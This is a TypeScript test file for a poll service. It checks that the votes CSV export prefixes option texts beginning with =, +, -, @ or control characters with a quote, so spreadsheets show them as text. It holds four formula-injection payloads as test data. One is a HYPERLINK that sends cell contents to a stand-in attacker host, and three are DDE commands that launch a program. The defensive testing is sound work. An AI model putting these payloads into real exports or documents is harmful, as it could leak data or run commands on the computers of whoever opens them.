// CSV (formula) injection: a poll's creator chooses its option texts, and the votes CSV carries them to
// whoever opens the export in a spreadsheet. Option texts starting with =, +, - or @ (what the poll
// schema lets through: it trims tabs, CRs and LFs off the ends) come out prefixed with a single quote,
// so a spreadsheet shows them as text and never evaluates them; the JSON keeps them as written. Every
// other column is an id, a time, a number or a validated code. The leading tab, CR, LF and NUL that no
// route can store are checked on the encoder itself.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { voteAsSimulatedHuman } from "../scripts/lib/voter";
import { csvField, csvRecord } from "../src/polls/votes-csv";
import { testClock } from "./support/clock";
import { parseCsv } from "./support/csv";
import { startLocalService, type LocalService } from "./support/harness";
import { createPaidPoll, type CreatedPoll } from "./support/polls";

const HOSTILE = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

const clock = testClock();
let service: LocalService;
let poll: CreatedPoll;

beforeAll(async () => {
  service = await startLocalService({}, { now: clock.now });
  poll = await createPaidPoll(service, { options: HOSTILE.map((text) => ({ text })) });
  expect(poll.options.map((o) => o.text)).toEqual(HOSTILE);
  for (const [i, option] of poll.options.entries()) {
    const answer = await voteAsSimulatedHuman(service.url, { pollId: poll.id, optionId: option.id, human: `formula-${i}` });
    expect(answer.status).toBe(201);
  }
  // The votes' minute has ended (and its grace): they are listed.
  clock.advance(2 * 60_000);
});
afterAll(async () => {
  await service?.stop();
});

describe("CSV formula injection", () => {
  it("prefixes option texts starting with =, +, - or @ with a single quote in the export", async () => {
    const response = await fetch(`${service.url}/api/v1/polls/${poll.id}/votes?format=csv`, { headers: { "x-read-token": poll.readToken } });
    expect(response.status).toBe(200);
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    expect(rows).toHaveLength(HOSTILE.length);
    const textColumn = header!.indexOf("optionText");
    expect(rows.map((r) => r[textColumn]).sort()).toEqual(HOSTILE.map((t) => `'${t}`).sort());
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0]/);
    // Quoting is RFC 4180 on top of the prefix: the quote goes inside the field.
    expect(text).toContain(`,"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Open"")",`);
  });

  it("leaves the JSON votes as the creator wrote them", async () => {
    const response = await fetch(`${service.url}/api/v1/polls/${poll.id}/votes`, { headers: { "x-read-token": poll.readToken } });
    const body = (await response.json()) as { votes: { optionText: string }[] };
    expect(body.votes.map((v) => v.optionText).sort()).toEqual([...HOSTILE].sort());
  });

  it("neutralises every leading trigger OWASP and ASVS name, and nothing else", () => {
    for (const trigger of ["=", "+", "-", "@", "\t", "\0"]) expect(csvField(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
    // CR and LF also force quotes.
    expect(csvField("\r=1+1")).toBe(`"'\r=1+1"`);
    expect(csvField("\n=1+1")).toBe(`"'\n=1+1"`);
    expect(csvField("a=1")).toBe("a=1");
    expect(csvField("'=1")).toBe("'=1");
    expect(csvField(null)).toBe("");
    expect(csvField(0)).toBe("0");
    expect(csvRecord(['-"x",y', "z"])).toBe(`"'-""x"",y",z\r\n`);
  });
});
